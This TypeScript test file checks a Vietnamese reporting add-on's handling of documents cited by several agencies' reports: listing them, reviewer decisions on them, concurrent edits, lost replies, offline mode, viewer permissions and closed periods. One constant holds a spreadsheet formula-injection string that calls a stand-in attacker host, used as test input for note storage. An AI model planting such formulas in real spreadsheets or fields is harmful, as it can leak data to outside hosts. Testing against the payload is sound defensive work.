// Documents that several counted reports cite: listed for a reviewer, decided, and decided anew.
import { describe, expect, test } from "vitest";
import type { DoublesView } from "../../addon/contract/province.ts";
import type { Report } from "../../shared/report/report.ts";
import { createClient } from "../../shared/wire/client.ts";
import { demoReport } from "../../tools/demo/demo-report.ts";
import { problem, value } from "./answers.ts";
import { startEnvironment } from "./environment.ts";

const PERIOD = "kh-6134-2021";
const DOCUMENT = "Kế hoạch số 45/KH-STC ngày 12/4/2021 về việc phối hợp (dữ liệu minh họa)";
const ID = "2021-04-12 45/kh-stc";
const HOSTILE = '=IMPORTXML("https://attacker.example";"//a")';

/** Has every finished duty of a report cite the document beside its own. */
function citing(report: Report): Report {
  return {
    ...report,
    tables: {
      ...report.tables,
      duties: report.tables.duties.map(({ cells, key }) => ({
        key,
        cells: cells.evidence ? { ...cells, evidence: `${cells.evidence}\n${DOCUMENT}` } : cells,
      })),
    },
  };
}

const environment = startEnvironment();

const clientOf = (person: string) =>
  createClient({
    send: ({ path, ...init }) => fetch(`${environment.backend.workerUrl}${path}`, init),
    token: () => environment.token(person),
  });

function replyOf<T>(answer: { kind: "reply"; reply: T } | { kind: "problem"; problem: object }): T {
  if (answer.kind === "reply") return answer.reply;
  throw new Error(JSON.stringify(answer.problem));
}

/** Sends and approves a report of an agency's that cites the document. */
async function sendCiting(person: string, agency: string, code: string): Promise<void> {
  const reporter = clientOf(person);
  const { form } = replyOf(
    await reporter.call("GET /v1/periods/:period/form", { params: { period: PERIOD }, query: { agency } }),
  );
  const { head } = replyOf(
    await reporter.call("PUT /v1/periods/:period/reports/:agency", {
      params: { period: PERIOD, agency },
      headers: { "Idempotency-Key": `"citing-${agency}"`, "If-None-Match": "*" },
      body: citing(demoReport(form, code)),
    }),
  );
  const { addon } = await environment.openHarness("tong-hop-1");
  const { rev } = value(addon.startReview(PERIOD, agency, 1, head.rev));
  value(addon.approveReport(PERIOD, agency, 1, rev, ""));
}

async function closePeriod(): Promise<void> {
  const reviewer = clientOf("tong-hop-1");
  const params = { period: PERIOD };
  const { period, rev } = replyOf(await reviewer.call("GET /v1/periods/:period", { params }));
  const { id: _, ...rest } = period;
  replyOf(
    await reviewer.call("PUT /v1/periods/:period", {
      params,
      headers: { "If-Match": `"${rev}"` },
      body: { ...rest, state: "closed" },
    }),
  );
}

const decisionOf = ({ items }: DoublesView) => items.find(({ id }) => id === ID)?.decision ?? null;
const methodsOf = (requests: readonly { method: string }[]) => requests.map(({ method }) => method);

describe("documents that several reports cite", () => {
  test("are none at first; an unknown one is not decided on", async () => {
    const { addon } = await environment.openHarness("tong-hop-1");
    expect(value(addon.listDoubles(PERIOD))).toEqual({ period: { id: PERIOD, name: "Năm 2021" }, items: [] });
    expect(problem(addon.decideDouble(PERIOD, ID, { verdict: "same", note: "" }, null))).toBe(
      "document_unknown",
    );
  });

  test("are listed with every agency and row that cites them, named for people", async () => {
    await sendCiting("bao-cao-so-tai-chinh", "so-tai-chinh", "STC");
    await sendCiting("bao-cao-hoi-nong-dan", "hoi-nong-dan-tinh", "HND");
    const { addon } = await environment.openHarness("tong-hop-1");
    const view = value(addon.listDoubles(PERIOD));
    expect(view.items.map(({ places: _, rev: _rev, ...item }) => item)).toEqual([
      { id: ID, type: "Kế hoạch", number: "45/KH-STC", date: "2021-04-12", decision: null },
    ]);
    const places = view.items[0]?.places ?? [];
    expect([...new Set(places.map(({ agency, name }) => `${agency}: ${name}`))]).toEqual([
      "so-tai-chinh: Sở Tài chính",
      "hoi-nong-dan-tinh: Hội Nông dân tỉnh",
    ]);
    expect(places[0]).toEqual({
      ...{ agency: "so-tai-chinh", name: "Sở Tài chính", version: 1, role: "lead" },
      ...{
        key: places[0]?.duty,
        duty: expect.stringMatching(/^I/),
        title: expect.stringMatching(/^\S.{9,}/),
      },
    });
  });

  test("are decided once; a note is kept as it was written, and a later decision replaces it", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    const note = ` ${HOSTILE} ${"rất dài ".repeat(200)}`;
    const decided = value(harness.addon.decideDouble(PERIOD, ID, { verdict: "same", note }, null));
    const decision = decisionOf(decided);
    expect(decision).toEqual({
      ...{ verdict: "same", note: note.trim(), by: "Người minh họa D", at: expect.any(String) },
    });
    expect(value(harness.addon.listDoubles(PERIOD))).toEqual(decided);
    const changed = value(
      harness.addon.decideDouble(PERIOD, ID, { verdict: "different", note: "" }, decision?.at ?? null),
    );
    expect(decisionOf(changed)).toMatchObject({ verdict: "different", note: "" });
    expect(changed.items.map(({ places }) => places)).toEqual(decided.items.map(({ places }) => places));
  });

  test("of two reviewers the slower one is told and overwrites nothing; having seen it they may", async () => {
    const mine = await environment.openHarness("tong-hop-1");
    const theirs = await environment.openHarness("tong-hop-2");
    const seen = decisionOf(value(mine.addon.listDoubles(PERIOD)))?.at ?? null;
    const first = value(theirs.addon.decideDouble(PERIOD, ID, { verdict: "same", note: "Một việc" }, seen));
    const before = mine.fake.requests.length;
    const late = mine.addon.decideDouble(PERIOD, ID, { verdict: "different", note: "" }, seen);
    expect(problem(late)).toBe("double_changed");
    expect(methodsOf(mine.fake.requests.slice(before))).toEqual(["GET"]);
    const now = value(mine.addon.listDoubles(PERIOD));
    expect(now).toEqual(first);
    expect(decisionOf(now)?.by).toBe("Người minh họa E");
    const own = value(
      mine.addon.decideDouble(
        PERIOD,
        ID,
        { verdict: "different", note: "Hai việc" },
        decisionOf(now)?.at ?? null,
      ),
    );
    expect(decisionOf(own)).toMatchObject({
      verdict: "different",
      note: "Hai việc",
      by: "Người minh họa D",
    });
  });

  test("where another report came since, nothing is decided", async () => {
    const { addon } = await environment.openHarness("tong-hop-1");
    const { decision, rev = 0 } = value(addon.listDoubles(PERIOD)).items[0]!;
    const decide = (seen: number) =>
      addon.decideDouble(PERIOD, ID, { verdict: "same", note: "" }, decision?.at ?? null, seen);
    expect(problem(decide(rev + 1))).toBe("double_changed");
    expect(decisionOf(value(decide(rev)))).toMatchObject({ verdict: "same", note: "" });
  });

  test("where the answer was lost, deciding again finds the decision and stores no second one", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    const seen = decisionOf(value(harness.addon.listDoubles(PERIOD)))?.at ?? null;
    const decide = () =>
      harness.addon.decideDouble(PERIOD, ID, { verdict: "same", note: " Một việc " }, seen);
    harness.intercept(({ method }, send) => {
      const reply = send();
      if (method === "PUT") throw new Error("the answer was lost");
      return reply;
    });
    expect(problem(decide())).toBe("offline");
    harness.intercept(null);
    const before = harness.fake.requests.length;
    const again = value(decide());
    expect(decisionOf(again)).toMatchObject({ verdict: "same", note: "Một việc" });
    expect(methodsOf(harness.fake.requests.slice(before))).toEqual(["GET"]);
  });

  test("without network nothing is stored", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    const before = value(harness.addon.listDoubles(PERIOD));
    harness.intercept(() => {
      throw new Error("no network");
    });
    expect([
      problem(harness.addon.listDoubles(PERIOD)),
      problem(harness.addon.decideDouble(PERIOD, ID, { verdict: "different", note: "" }, null)),
    ]).toEqual(["offline", "offline"]);
    harness.intercept(null);
    expect(value(harness.addon.listDoubles(PERIOD))).toEqual(before);
  });

  test("are read by a viewer, who decides on none", async () => {
    const { addon } = await environment.openHarness("theo-doi");
    const view = value(addon.listDoubles(PERIOD));
    const seen = decisionOf(view)?.at ?? null;
    expect(problem(addon.decideDouble(PERIOD, ID, { verdict: "different", note: "" }, seen))).toBe(
      "role_forbidden",
    );
    expect(value(addon.listDoubles(PERIOD))).toEqual(view);
  });

  test("are no longer decided once the period is closed: what was frozen stands as it was decided", async () => {
    const { addon } = await environment.openHarness("tong-hop-1");
    const before = decisionOf(value(addon.listDoubles(PERIOD)));
    await closePeriod();
    const verdict = { verdict: "different", note: "Sau khi đóng kỳ" } as const;
    expect(problem(addon.decideDouble(PERIOD, ID, verdict, before?.at ?? null))).toBe("period_closed");
    expect(decisionOf(value(addon.listDoubles(PERIOD)))).toEqual(before);
    expect(problem(addon.markReminded(PERIOD, ["so-y-te"]))).toBe("period_closed");
  });
});
